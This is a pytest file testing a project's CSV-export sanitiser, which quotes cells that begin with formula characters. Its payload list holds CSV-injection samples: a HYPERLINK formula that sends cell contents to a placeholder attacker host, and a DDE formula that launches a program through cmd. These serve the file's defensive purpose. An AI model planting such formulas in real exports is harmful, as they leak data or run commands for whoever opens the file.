"""Tests for recsys_core.app._safety: CSV exports that cannot run spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from recsys_core.app import FORMULA_PREFIXES, neutralise_csv_cells, to_safe_csv

# Payloads from the OWASP "CSV Injection" page and the usual DDE examples.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_gets_a_leading_quote(payload):
    safe = neutralise_csv_cells(pd.DataFrame({"name": [payload]}))
    assert safe["name"].tolist() == ["'" + payload]


def test_harmless_text_numbers_and_missing_values_are_untouched():
    frame = pd.DataFrame(
        {
            "name": ["USB cable", "a=b", "x-1", "'=already quoted", "", None],
            "score": [-1.5, 0.0, 2.0, -3.0, np.nan, 4.0],
            "count": [-1, 2, 3, 4, 5, 6],
            "when": pd.to_datetime(["2014-01-01"] * 6),
        }
    )
    safe = neutralise_csv_cells(frame)
    assert safe["name"].tolist()[:5] == ["USB cable", "a=b", "x-1", "'=already quoted", ""]
    assert pd.isna(safe["name"].iloc[5])
    pd.testing.assert_series_equal(safe["score"], frame["score"])
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    pd.testing.assert_series_equal(safe["when"], frame["when"])


def test_string_dtype_is_kept_and_input_not_changed():
    frame = pd.DataFrame({"item": pd.Series(["=cmd", "B0001", None], dtype="str")})
    before = frame.copy()
    safe = neutralise_csv_cells(frame)
    assert safe["item"].dtype == frame["item"].dtype
    assert safe["item"].tolist()[:2] == ["'=cmd", "B0001"]
    pd.testing.assert_frame_equal(frame, before)


def test_object_column_with_mixed_values():
    frame = pd.DataFrame({"mixed": ["@x", 5, None, -2.5, "+y", "ok", pd.Timestamp("2020-01-01")]})
    safe = neutralise_csv_cells(frame)
    assert safe["mixed"].tolist()[:2] == ["'@x", 5]
    assert safe["mixed"].iloc[2] is None
    assert safe["mixed"].tolist()[3:] == [-2.5, "'+y", "ok", pd.Timestamp("2020-01-01")]


def test_object_column_without_text_is_untouched():
    frame = pd.DataFrame({"ids": pd.Series([-1, 2, -3], dtype=object)})
    assert neutralise_csv_cells(frame)["ids"].tolist() == [-1, 2, -3]


def test_categorical_column():
    frame = pd.DataFrame({"category": pd.Categorical(["-Electronics", "Camera", "-Electronics"])})
    safe = neutralise_csv_cells(frame)
    assert safe["category"].tolist() == ["'-Electronics", "Camera", "'-Electronics"]


def test_column_names_are_neutralised_and_may_repeat():
    frame = pd.DataFrame([["=a", "b"]], columns=["=SUM(A1)", "=SUM(A1)"])
    safe = neutralise_csv_cells(frame)
    assert list(safe.columns) == ["'=SUM(A1)", "'=SUM(A1)"]
    assert safe.iloc[0].tolist() == ["'=a", "b"]


def test_to_safe_csv_round_trip():
    frame = pd.DataFrame(
        {
            "user": ['=HYPERLINK("x")', "A1", "line\nbreak", "comma, inside", "\r=1"],
            "rating": [5.0, -1.0, 3.0, 4.0, 2.0],
        }
    )
    rows = read_back(to_safe_csv(frame))
    assert rows[0] == ["user", "rating"]
    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("x")', "A1", "line\nbreak", "comma, inside", "'\r=1"]
    # Numbers are written as numbers, so a spreadsheet still computes with them.
    assert [r[1] for r in rows[1:]] == ["5.0", "-1.0", "3.0", "4.0", "2.0"]
    # A carriage return inside a value is quoted, so it cannot end the row early.
    assert len(rows) == 6
    # No cell of the file starts with a formula character.
    assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row if cell[:1] != "-")


def test_to_safe_csv_with_index_and_encoding():
    frame = pd.DataFrame({"score": [0.9]}, index=pd.Index(["=evil"], name="item"))
    content = to_safe_csv(frame, index=True, encoding="utf-8-sig")
    assert content.startswith(b"\xef\xbb\xbf")
    rows = read_back(content.removeprefix(b"\xef\xbb\xbf"))
    assert rows == [["item", "score"], ["'=evil", "0.9"]]


def test_empty_frame_gives_the_header_only():
    assert to_safe_csv(pd.DataFrame({"item": pd.Series([], dtype="str")})) == b"item\r\n"


def test_not_a_frame():
    with pytest.raises(TypeError, match="DataFrame"):
        neutralise_csv_cells([["=1"]])  # type: ignore[arg-type]
